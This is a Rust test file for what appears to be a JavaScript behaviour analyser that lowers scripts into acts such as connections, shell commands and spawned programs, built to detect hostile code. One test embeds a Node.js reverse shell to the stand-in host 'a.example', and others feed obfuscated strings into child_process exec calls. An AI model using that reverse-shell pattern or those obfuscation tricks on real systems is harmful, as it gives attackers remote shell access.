//! What JavaScript does.

use model::{Behavior, Budget, Stream};

use crate::world::World;

/// What a text does, one act a line.
fn acts(text: &str) -> Vec<String> {
    let budget = Budget::default();
    let mut world = World::new(&budget);
    super::lower(&mut world, text);
    let shown = |behavior: &Behavior| match behavior {
        Behavior::Connect { host, port, .. } => format!("connect {host}:{port}"),
        Behavior::Listen { port, .. } => format!("listen {port}"),
        Behavior::Evaluate { language, code } => format!("{}: {code}", language.name()),
        Behavior::Execute { program, input, .. } => match input {
            Stream::Connection(connection) => format!("run {program} on #{connection}"),
            _ => format!("run {program}"),
        },
        Behavior::Send { data, .. } => format!("send {data}"),
        Behavior::Fetch { url, .. } => format!("fetch {url}"),
        Behavior::Write { path, .. } => format!("write {path}"),
        other => format!("{other:?}"),
    };
    let acts = world.finish().acts;
    acts.iter().map(|act| shown(&act.behavior)).collect()
}

/// Texts that are hostile to read: nothing may panic or take long.
#[test]
fn hostile_texts_end() {
    for part in [
        "(", "[", "{", "a[", "a(", "`${", "!", "x=>", "eval(", "if(a)", "a?b:", "/*", "\"", "a.b(",
        "{a:",
    ] {
        acts(&part.repeat(20_000));
    }
}

#[test]
fn operands_are_turned_into_what_operators_need() {
    let cases = [
        ("[]+[]", ""),
        ("[]+{}", "[object Object]"),
        ("![]+[]", "false"),
        ("[][[]]+[]", "undefined"),
        ("+[]+[]", "0"),
        ("(+'a')+[]", "NaN"),
        ("[1,[2,3]]+''", "1,2,3"),
        ("1+'2'-1", "11"),
        ("(-1>>>0).toString(16)", "ffffffff"),
        ("typeof []", "object"),
        ("(25)['to'+String['name']](36)", "p"),
        ("'abc'.replace(/b/g, x => x.toUpperCase())", "aBc"),
        ("[3,1,2].sort().join('')", "123"),
        ("'%u0041%42' && unescape('%u0041%42')", "AB"),
    ];
    for (expression, expected) in cases {
        let code = format!("require('child_process').execSync('x '+({expression}))");
        let acts = acts(&code);
        assert_eq!(
            acts.first(),
            Some(&format!("shell: x {expected}")),
            "{expression}"
        );
    }
}

#[test]
fn callbacks_see_what_the_statement_binds() {
    let code = "const cp = require('child_process');\n\
        const s = require('net').connect(1, 'a.example', () => {\n\
        const p = cp.spawn('sh'); s.pipe(p.stdin); p.stdout.pipe(s); });";
    assert_eq!(acts(code)[..2], ["connect a.example:1", "run sh on #1"]);
}

#[test]
fn hoisted_and_shadowed_names() {
    let code = "f(); var a = 'id'; function f() { a = 'ls'; }\n\
        (function () { var a = 'no'; })(); require('child_process').exec(a);";
    assert_eq!(acts(code).first().map(String::as_str), Some("shell: id"));
}

#[test]
fn a_computed_loop_is_left_at_its_end() {
    let code = "var l = ['c', 'a', 'b'], n = 0;\n\
        while (true) { try { if (l[0] === 'a') break; else l.push(l.shift()); } \
        catch (e) { l.push(l.shift()); } }\n\
        require('child_process').exec(l.join(''));";
    assert_eq!(acts(code).first().map(String::as_str), Some("shell: abc"));
}
